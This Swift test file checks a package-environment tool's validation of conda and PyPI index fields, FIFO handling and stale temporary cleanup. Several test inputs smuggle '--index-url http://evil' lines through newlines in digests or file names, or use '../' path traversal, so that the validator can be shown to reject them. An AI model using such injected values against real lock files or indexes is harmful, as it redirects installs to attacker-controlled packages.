// Channel and index fields that reach lock files are checked where they enter: a digest with a
// newline in it (which once added an `--index-url` line of the channel's choosing to
// requirements.lock.txt and conda-linux-64.lock), a file name with a path or a line break, a
// URL with whitespace: the record or file is left out.

import Basics
import Foundation
import Specs
import Testing

@testable import Channels

@Suite struct FieldCheckTests {
    @Test func digestsNamesAndTokens() {
        #expect(FieldCheck.isHexDigest(String(repeating: "a", count: 32), count: 32))
        #expect(FieldCheck.isHexDigest(String(repeating: "F", count: 64), count: 64))
        #expect(!FieldCheck.isHexDigest(String(repeating: "a", count: 31) + "\n", count: 32))
        #expect(!FieldCheck.isHexDigest(String(repeating: "g", count: 32), count: 32))
        #expect(FieldCheck.isPlainFileName("numpy-1.26.4-py311h64a7726_0.conda"))
        for bad in [
            "", ".", "..", "../x.conda", "a/b.conda", "x.conda\n--index-url http://evil", "x\u{0}.conda", "x .conda",
            "x\u{2028}.whl"
        ] {
            #expect(!FieldCheck.isPlainFileName(bad), "\(bad)")
        }
        #expect(!FieldCheck.isToken("https://files.example/x.whl\nhttps://evil"))
    }

    @Test func condaRecordsWithForgedFieldsAreLeftOut() throws {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("mlenv-fieldcheck-\(getpid())")
        defer { try? FileManager.default.removeItem(at: root) }
        let good = String(repeating: "0", count: 32)
        let repodata = """
            {"info": {"subdir": "noarch"}, "packages": {
              "ok-1.0-0.tar.bz2": {"name": "ok", "version": "1.0", "build": "0", "build_number": 0, "depends": [], "md5": "\(good)"},
              "forged-md5-1.0-0.tar.bz2": {"name": "forged-md5", "version": "1.0", "build": "0", "build_number": 0, "depends": [], "md5": "\(good)\\n--index-url http://evil.invalid/simple"},
              "forged-sha-1.0-0.tar.bz2": {"name": "forged-sha", "version": "1.0", "build": "0", "build_number": 0, "depends": [], "sha256": "abc"},
              "forged\\nname-1.0-0.tar.bz2": {"name": "forged-name", "version": "1.0", "build": "0", "build_number": 0, "depends": []},
              "forged-build-1.0-0.tar.bz2": {"name": "forged-build", "version": "1.0", "build": "0 extra", "build_number": 0, "depends": []}
            }}
            """
        for subdir in ["noarch", "linux-64"] {
            try FileManager.default.createDirectory(
                at: root.appendingPathComponent(subdir), withIntermediateDirectories: true)
            try (subdir == "noarch" ? repodata : "{\"packages\": {}}").write(
                to: root.appendingPathComponent("\(subdir)/repodata.json"), atomically: true, encoding: .utf8)
        }
        let records = try CondaChannel(root.path).records(subdir: "noarch")
        #expect(records.map(\.name) == ["ok"])
    }

    @Test func indexFilesWithForgedFieldsAreLeftOut() throws {
        let sha = String(repeating: "a", count: 64)
        let page = """
            {"meta": {"api-version": "1.1"}, "name": "demo", "files": [
              {"filename": "demo-1.0-py3-none-any.whl", "url": "demo-1.0-py3-none-any.whl", "hashes": {"sha256": "\(sha)"}},
              {"filename": "demo-1.1-py3-none-any.whl", "url": "demo-1.1-py3-none-any.whl", "hashes": {"sha256": "\(sha)\\n--index-url http://evil.invalid"}},
              {"filename": "demo-1.2-py3-none-any.whl\\n--extra-index-url http://evil.invalid", "url": "x.whl", "hashes": {"sha256": "\(sha)"}},
              {"filename": "../demo-1.3-py3-none-any.whl", "url": "y.whl", "hashes": {"sha256": "\(sha)"}},
              {"filename": "demo-1.4-py3-none-any.whl", "url": "demo 1.4.whl", "hashes": {"sha256": "\(sha)"}}
            ]}
            """
        let project = try ProjectPage.parseJSON(
            Array(page.utf8), project: NormalizedName("demo"), pageURL: "https://index.invalid/simple/demo/")
        #expect(project.files.map(\.filename) == ["demo-1.0-py3-none-any.whl"])
        let html = """
            <a href="demo-1.0-py3-none-any.whl#sha256=\(sha)">demo-1.0-py3-none-any.whl</a>
            <a href="demo-1.1-py3-none-any.whl#sha256=zz">demo-1.1-py3-none-any.whl</a>
            """
        #expect(
            ProjectPage.parseHTML(html, project: NormalizedName("demo"), pageURL: "https://index.invalid/simple/demo/")
                .files.map(\.filename)
                == ["demo-1.0-py3-none-any.whl"])
    }
}

/// Files that are not regular files are refused without blocking: a FIFO as a cache file, an
/// index page or a bundle file once hung mlenv in open(2).
@Suite struct NotARegularFileTests {
    @Test func aFIFOIsRefusedAtOnce() throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("mlenv-fifo-\(getpid())").path
        defer { unlink(path) }
        #expect(mkfifo(path, 0o644) == 0)
        #expect(FileBytes.readPlain(path) == nil)
        #expect(OpenFile(readingAtPath: path) == nil)
        // The mapped caches (parsed pages, parsed metadata, conda records) open the same way.
        #expect(ImageBytes(mapping: path) == nil)
        #expect(throws: FileReadError.self) { _ = try FileBytes.read(path) }
        do { _ = try FileBytes.read(path) } catch { #expect(error.reason.contains("not a regular file")) }
        #expect(throws: ArtifactError.self) {
            _ = try ArtifactCache.digest(of: path, algorithm: .sha256, filename: "x")
        }
    }
}

/// Temporaries of a process that is gone (killed with SIGKILL, so it could not clean up) are
/// removed by the next run; a live process's and other names are left alone.
@Suite struct StaleTemporariesTests {
    @Test func onlyThoseOfDeadProcessesGo() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("mlenv-stale-\(getpid())").path
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        // A process id that is certainly gone: a child that has exited and been reaped.
        let child = Process()
        child.executableURL = URL(fileURLWithPath: "/bin/true")
        try child.run()
        child.waitUntilExit()
        let dead = child.processIdentifier
        let live = getppid()
        for name in [
            "mlenv-run-\(dead)-123", ".mlenv-bundle-\(dead)-9.tar.gz", ".conda-lock.yml.tmp-\(dead)",
            "mlenv-run-\(live)-1", "mlenv-run-x-1", "mlenv-run-\(dead)x", "other-\(dead)"
        ] {
            try FileManager.default.createDirectory(atPath: dir + "/" + name, withIntermediateDirectories: true)
        }
        #expect(StaleTemporaries.sweep(dir, prefix: "mlenv-run-") == ["mlenv-run-\(dead)-123"])
        #expect(StaleTemporaries.sweep(dir, prefix: ".mlenv-bundle-") == [".mlenv-bundle-\(dead)-9.tar.gz"])
        #expect(StaleTemporaries.sweep(dir, prefix: ".conda-lock.yml.tmp-") == [".conda-lock.yml.tmp-\(dead)"])
        let left = Set(try FileManager.default.contentsOfDirectory(atPath: dir))
        #expect(left == ["mlenv-run-\(live)-1", "mlenv-run-x-1", "mlenv-run-\(dead)x", "other-\(dead)"])
    }

    /// A writer killed between creating its temporary and renaming it (a mirror page, a cache
    /// file) leaves `<name>.tmp-<pid>-<n>`: the next write into that folder removes it, and
    /// leaves a live process's alone.
    @Test func atomicWriteLeftoversOfDeadProcessesGo() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("mlenv-stale-atomic-\(getpid())").path
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        let child = Process()
        child.executableURL = URL(fileURLWithPath: "/bin/true")
        try child.run()
        child.waitUntilExit()
        let dead = child.processIdentifier
        let live = getppid()
        for name in ["index.json.tmp-\(dead)-42", "index.json.tmp-\(live)-42", "notes.tmp-x-1"] {
            try Data("partial".utf8).write(to: URL(fileURLWithPath: dir + "/" + name))
        }
        try FileBytes.writeAtomically(Array("{}".utf8), to: dir + "/index.json")
        let left = Set(try FileManager.default.contentsOfDirectory(atPath: dir))
        #expect(left == ["index.json", "index.json.tmp-\(live)-42", "notes.tmp-x-1"])
    }
}
